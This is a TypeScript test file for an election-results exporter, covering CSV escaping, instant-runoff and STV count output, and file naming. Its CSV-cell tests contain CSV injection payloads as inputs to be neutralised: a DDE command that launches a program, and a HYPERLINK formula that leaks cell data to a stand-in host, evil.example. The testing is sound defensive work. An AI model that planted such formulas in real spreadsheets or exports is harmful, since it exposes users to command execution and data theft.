import { describe, expect, it } from "vitest";
import {
  countsCsv,
  csvCell,
  csvDocument,
  type ExportElection,
  type RecountForExport,
  resultsCsv,
  resultsFileName,
  resultsJson,
} from "../src/client/index";
import type { CountResult } from "@landslide/vote-engine";

const election: ExportElection = {
  id: "6f1c2d3e-0000-4000-8000-000000000001",
  title: "Harbour Board",
  questions: [
    {
      id: "chair",
      kind: "ranked",
      prompt: "Who should chair the board?",
      options: [
        { id: "amara", label: "Amara Okonkwo" },
        { id: "bob", label: 'Smith, Robert "Bob"' },
      ],
    },
  ],
};

const recount: RecountForExport = {
  votesRead: 4,
  // No counter for "amara": the count drops counters that are zero.
  counters: { __turnout: 3, __quarantined: 1, "chair#bob": 2, "chair#__abstain": 1 },
  instantRunoff: {
    chair: {
      winner: "bob",
      abstentions: 1,
      rounds: [{ round: 1, tallies: { amara: 0, bob: 2 }, exhausted: 0, eliminated: [] }],
    },
  },
  differences: [],
};

const csvLines = (csv: string) => csv.split("\r\n").slice(0, -1);

describe("resultsCsv", () => {
  const lines = csvLines(resultsCsv(election, recount));

  it("starts with the header and ends every line with CRLF", () => {
    expect(lines[0]).toBe("counter,question_id,question,option_id,option,votes");
    expect(resultsCsv(election, recount).endsWith("\r\n")).toBe(true);
  });

  it("has one row per option, with its label and its votes (0 when the recount has no counter)", () => {
    const optionRows = lines.filter((line) => /^chair#(amara|bob),/.test(line));
    expect(optionRows).toEqual([
      "chair#amara,chair,Who should chair the board?,amara,Amara Okonkwo,0",
      'chair#bob,chair,Who should chair the board?,bob,"Smith, Robert ""Bob""",2',
    ]);
  });

  it("has the turnout, the held ballots and the abstentions", () => {
    expect(lines).toContain("__turnout,,,,Ballots counted (turnout),3");
    expect(lines).toContain("__quarantined,,,,Held for review (not counted),1");
    expect(lines).toContain("chair#__abstain,chair,Who should chair the board?,,Abstained,1");
    expect(lines).toHaveLength(1 + 2 + 2 + 1);
  });
});

describe("csvCell", () => {
  it("quotes only what RFC 4180 needs quoted, quotes doubled", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("Smith, Robert")).toBe('"Smith, Robert"');
    expect(csvCell("two\nlines")).toBe('"two\nlines"');
    expect(csvCell("a\rb")).toBe('"a\rb"');
  });

  it("keeps numbers plain numbers, so a spreadsheet still sums the counts", () => {
    expect(csvCell(12)).toBe("12");
    expect(csvCell(0)).toBe("0");
  });

  // OWASP CSV injection: a cell starting with = + - @ tab or CR is a formula to a spreadsheet,
  // quoted or not; a leading ' makes it text, and the cell is quoted.
  it.each([
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`,
    ],
    ["@SUM(1)", `"'@SUM(1)"`],
    ["-2+3", `"'-2+3"`],
    ["\t=1", `"'\t=1"`],
    ["\r=1", `"'\r=1"`],
    ["=1,2", `"'=1,2"`],
  ])("neutralises %j as text", (attack, cell) => {
    expect(csvCell(attack)).toBe(cell);
  });

  it("leaves a formula character that is not first alone", () => {
    expect(csvCell("Ada = Bob")).toBe("Ada = Bob");
    expect(csvCell("e-mail")).toBe("e-mail");
  });

  it("writes documents of rows with CRLF after each", () => {
    expect(
      csvDocument([
        ["a", 1],
        ["=b", 2],
      ]),
    ).toBe('a,1\r\n"\'=b",2\r\n');
  });
});

describe("resultsCsv with labels that are formulas", () => {
  it("writes every label and prompt as text", () => {
    const attack: ExportElection = {
      ...election,
      questions: [
        {
          id: "q",
          kind: "single",
          prompt: "=1+1",
          options: [
            { id: "a", label: "+cmd|' /C calc'!A0" },
            { id: "b", label: "@SUM(1)" },
          ],
        },
      ],
    };
    const lines = csvLines(resultsCsv(attack, recount));
    expect(lines).toContain(`q#a,q,"'=1+1",a,"'+cmd|' /C calc'!A0",0`);
    expect(lines).toContain(`q#b,q,"'=1+1",b,"'@SUM(1)",0`);
  });
});

/** What these tests read of resultsJson's document. */
interface ResultsDocument {
  turnout: number;
  questions: Array<{ options: unknown; abstentions: number; instantRunoff?: { winner: unknown; rounds: unknown[] } }>;
}

describe("resultsJson", () => {
  it("carries the figures by question and the instant-runoff rounds with the winner's label", () => {
    const json = JSON.parse(resultsJson(election, recount, new Date("2025-03-30T07:00:00Z"))) as ResultsDocument;
    const question = json.questions[0]!;
    expect(json.turnout).toBe(3);
    expect(question.options).toEqual([
      { id: "amara", label: "Amara Okonkwo", votes: 0 },
      { id: "bob", label: 'Smith, Robert "Bob"', votes: 2 },
    ]);
    expect(question.abstentions).toBe(1);
    expect(question.instantRunoff?.winner).toEqual({ id: "bob", label: 'Smith, Robert "Bob"' });
    expect(question.instantRunoff?.rounds).toHaveLength(1);
  });
});

describe("resultsJson with a count by another method", () => {
  it("carries each question's count whole, its winners labelled, beside the instant-runoff view", () => {
    const board: ExportElection = {
      ...election,
      questions: [
        { ...election.questions[0]!, options: [...election.questions[0]!.options, { id: "chen", label: "Chen" }] },
      ],
    };
    const stv = {
      method: "stv-meek" as const,
      seats: 2,
      winners: ["bob", "amara"],
      rounds: [
        { round: 1, tallies: { amara: 1, bob: 2, chen: 0 }, elected: ["bob"], eliminated: [], quota: 1.000000001 },
      ],
      tieBreaks: [],
      abstentions: 1,
    };
    const json = JSON.parse(
      resultsJson(board, { ...recount, counts: { chair: stv } }, new Date("2025-03-30T07:00:00Z")),
    ) as { questions: Array<{ count?: typeof stv & { winners: unknown[] } }> };
    expect(json.questions[0]!.count).toEqual({
      ...stv,
      winners: [
        { id: "bob", label: 'Smith, Robert "Bob"' },
        { id: "amara", label: "Amara Okonkwo" },
      ],
    });
    // A recount from before counting methods exported what it always did.
    const before = JSON.parse(resultsJson(board, recount, new Date())) as { questions: Array<Record<string, unknown>> };
    expect(before.questions[0]).not.toHaveProperty("count");
  });
});

describe("countsCsv", () => {
  it("has a row per option per round with its votes and what happened to it, and the exhausted ballots", () => {
    const board: ExportElection = {
      ...election,
      questions: [
        { ...election.questions[0]!, options: [...election.questions[0]!.options, { id: "chen", label: "Chen" }] },
      ],
    };
    const irv: CountResult = {
      method: "instant-runoff",
      seats: 1,
      winners: ["bob"],
      rounds: [
        { round: 1, tallies: { amara: 2, bob: 3, chen: 1 }, exhausted: 0, elected: [], eliminated: ["chen"] },
        { round: 2, tallies: { amara: 2, bob: 3.5 }, exhausted: 0.5, elected: ["bob"], eliminated: [] },
      ],
      tieBreaks: [],
      abstentions: 1,
    };
    const csv = countsCsv(board, { ...recount, counts: { chair: irv } });
    const q = "chair,Who should chair the board?,instant-runoff,1";
    expect(csv.split("\r\n")).toEqual([
      "question_id,question,method,seats,round,option_id,option,votes,outcome",
      `${q},1,amara,Amara Okonkwo,2,`,
      `${q},1,bob,"Smith, Robert ""Bob""",3,`,
      `${q},1,chen,Chen,1,eliminated`,
      `${q},1,,Exhausted ballots,0,`,
      `${q},2,amara,Amara Okonkwo,2,`,
      `${q},2,bob,"Smith, Robert ""Bob""",3.5,elected`,
      `${q},2,,Exhausted ballots,0.5,`,
      "",
    ]);
    // A recount from before counting methods has no counts: the header alone.
    expect(countsCsv(board, recount)).toBe(
      "question_id,question,method,seats,round,option_id,option,votes,outcome\r\n",
    );
  });
});

describe("resultsFileName", () => {
  it("names the file after the election and the day of the recount", () => {
    expect(resultsFileName({ title: "Harbour Board, 2025!" }, new Date("2025-03-30T07:00:00Z"), "csv")).toBe(
      "harbour-board-2025-results-2025-03-30.csv",
    );
  });
});
